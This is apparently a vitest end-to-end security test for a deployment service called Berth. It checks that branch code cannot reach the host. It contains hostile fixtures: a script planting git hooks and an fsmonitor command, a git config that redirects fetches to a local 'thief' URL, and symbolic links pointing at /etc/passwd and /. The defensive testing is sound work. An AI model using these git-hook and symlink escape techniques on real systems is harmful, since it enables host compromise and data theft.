/**
 * Code from a branch never reaches the host through Berth's handling of the source
 * (issue 10, items 1 and 2), played for real: a workspace that booby-traps its own
 * /workspace/.git and then gets a push; repositories whose committed symbolic links lead the
 * build context or berth.yml out of the clone.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import Dockerode from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeGitHub, type FakeGitHub } from '../fakes/github.js';
import { pushPayload, sendWebhook } from '../fakes/webhooks.js';
import { ensureBaseImage } from '../fixtures/base-image.js';
import { sampleAppFiles } from '../fixtures/sample-app.js';
import { startTestBerth, type TestBerth } from '../helpers/berth.js';
import { waitFor } from '../helpers/http.js';

const OWNER = 'acme';
const REPO = `h1-src-${randomBytes(3).toString('hex')}`;

describe('source safety: nothing from a branch reaches the host', () => {
  let fake: FakeGitHub;
  let berth: TestBerth;
  let installationId: number;
  let tmp: string;
  const docker = new Dockerode();

  beforeAll(async () => {
    await ensureBaseImage();
    tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'berth-h1-e2e-'));
    fake = await startFakeGitHub();
    installationId = fake.addInstallation({ login: OWNER, type: 'Organization' }).id;
    fake.createRepo(OWNER, REPO, { installationId });
    berth = await startTestBerth(fake);
  });

  afterAll(async () => {
    await berth?.close();
    await fake?.close();
    if (tmp) await fs.rm(tmp, { recursive: true, force: true });
  });

  async function push(branch: string, files: Parameters<FakeGitHub['pushFiles']>[3], before?: string) {
    const sha = await fake.pushFiles(OWNER, REPO, branch, files);
    const res = await sendWebhook(berth.webhookUrl, 'push', pushPayload({ fake, owner: OWNER, repo: REPO, branch, after: sha, before, installationId }), fake.webhookSecret);
    expect(res.status).toBeLessThan(300);
    return sha;
  }

  async function completedCheck(sha: string) {
    return waitFor(`the check run of ${sha.slice(0, 7)} to complete`, async () => fake.checkRuns(OWNER, REPO, sha).find((c) => c.status === 'completed'), 120_000, 300);
  }

  async function imagesOfBranch(branch: string): Promise<string[]> {
    const ws = await berth.db.workspace.findFirst({ where: { branch } });
    if (!ws) return [];
    const images = await docker.listImages();
    return images.flatMap((i) => i.RepoTags ?? []).filter((t) => t.includes(ws.slug));
  }

  it('a workspace that booby-traps /workspace/.git gets a push: nothing runs on the host, nothing leaves, the checkout moves on', async () => {
    let stolen = 0;
    const thief = http.createServer((_req, res) => {
      stolen++;
      res.end();
    });
    await new Promise<void>((r) => thief.listen(0, '127.0.0.1', r));
    const thiefUrl = `http://127.0.0.1:${(thief.address() as { port: number }).port}/loot.git`;
    const marker = path.join(tmp, 'pwned');
    // The app's own seed plants the traps, as any code on the branch could. Relative paths and
    // .git/hooks: they would fire wherever git runs on this disk, the host included.
    const plant = [
      'set -e',
      `printf '#!/bin/sh\\ntouch ${marker}\\n' > /workspace/.git/hooks/post-merge`,
      'for h in reference-transaction post-checkout pre-receive update post-update; do cp /workspace/.git/hooks/post-merge /workspace/.git/hooks/$h; done',
      'cp /workspace/.git/hooks/post-merge /workspace/.git/fsmonitor.sh',
      'chmod +x /workspace/.git/hooks/* /workspace/.git/fsmonitor.sh',
      `printf '[core]\\n\\tfsmonitor = .git/fsmonitor.sh\\n[remote "origin"]\\n\\turl = ${thiefUrl}\\n[url "${thiefUrl}"]\\n\\tinsteadOf = /src\\n\\tinsteadOf = http\\n' >> /workspace/.git/config`,
      '',
    ].join('\n');
    const yml = sampleAppFiles()['.github/berth.yml']!.replace('seed: node seed.js', 'seed: sh plant.sh && node seed.js');
    const sha1 = await push('feature/h1-trap', sampleAppFiles({ '.github/berth.yml': yml, 'plant.sh': plant }));
    const ws = await waitFor('the workspace', () => berth.db.workspace.findFirst({ where: { branch: 'feature/h1-trap' } }));
    await waitFor('it to run', async () => (await berth.db.workspace.findUniqueOrThrow({ where: { id: ws.id } })).state === 'running', 150_000, 300);
    // the seed ran, so the traps it plants first (set -e) are in place
    expect((await berth.preview(ws.slug)).body).toContain('seeded-alice');

    const clones = () => fake.requests.filter((r) => r.method === 'GET' && r.path === `/${OWNER}/${REPO}.git/info/refs`).length;
    const clonesBefore = clones();
    const sha2 = await push('feature/h1-trap', { 'message.txt': 'Hello from Berth sample v2' }, sha1);
    const after = await waitFor('the workspace to run the second commit', async () => {
      const w = await berth.db.workspace.findUniqueOrThrow({ where: { id: ws.id } });
      return (w.state === 'running' || w.state === 'failed') && w.runningSha === sha2 ? w : w.state === 'failed' ? w : null;
    }, 150_000, 300);
    expect(after.state, after.stateReason ?? '').toBe('running');
    // the checkout on the disk moved on: the app reads message.txt from /workspace
    expect((await berth.preview(ws.slug)).body).toContain('Hello from Berth sample v2');
    expect(after.notice).toBeNull();
    await fs.access(marker).then(
      () => expect.fail(`a trap of the workspace ran on the host (${marker})`),
      () => undefined,
    );
    expect(stolen).toBe(0);
    // one clone for the push: the update fetched from the build's checkout, which is gone now
    expect(clones() - clonesBefore).toBe(1);
    expect((await fs.readdir(os.tmpdir())).filter((n) => n.startsWith(`berth-checkout-${ws.id}`))).toEqual([]);
    expect((await completedCheck(sha2)).conclusion).toBe('success');
    thief.close();
  });

  it('a committed symbolic link cannot lead the build context, the Dockerfile or berth.yml out of the clone', async () => {
    const base = sampleAppFiles();
    const yml = (context: string) => base['.github/berth.yml']!.replace('build: .', `build: { context: ${context} }`);

    // `h -> /` and `context: h/etc`: the context would be the host's /etc
    const escaped = await push('feature/h1-ctx', { ...base, h: { symlink: '/' }, '.github/berth.yml': yml('h/etc') });
    const c1 = await completedCheck(escaped);
    expect(c1.conclusion).toBe('failure');
    expect(JSON.stringify(c1.output)).toContain('the build context h/etc leads outside the repository through the symbolic link h (-> /)');

    // a link inside the context pointing at a host file
    const inner = await push('feature/h1-link', { ...base, 'passwd.txt': { symlink: '/etc/passwd' } });
    const c2 = await completedCheck(inner);
    expect(c2.conclusion).toBe('failure');
    expect(JSON.stringify(c2.output)).toContain('the symbolic link passwd.txt (-> /etc/passwd) points outside the build context');

    // berth.yml itself a link to a host file: never read, and none of it shown
    const config = await push('feature/h1-yml', { ...base, '.github/berth.yml': { symlink: '/etc/passwd' } });
    const c3 = await completedCheck(config);
    expect(c3.conclusion).toBe('failure');
    expect(JSON.stringify(c3.output)).toContain('.github/berth.yml leads outside the repository through the symbolic link .github/berth.yml');
    expect(JSON.stringify(c3.output)).not.toContain('root:x:0:0');

    // and a Dockerfile (the root fallback) that is a link out of the clone
    const docker2 = await push('feature/h1-dockerfile', { 'server.js': base['server.js']!, Dockerfile: { symlink: '/etc/hostname' } });
    const c4 = await completedCheck(docker2);
    expect(c4.conclusion).toBe('failure');
    expect(JSON.stringify(c4.output)).toContain('Dockerfile leads outside the repository through the symbolic link Dockerfile (-> /etc/hostname)');

    for (const branch of ['feature/h1-ctx', 'feature/h1-link', 'feature/h1-yml', 'feature/h1-dockerfile']) {
      expect(await imagesOfBranch(branch), branch).toEqual([]);
    }
  });
});
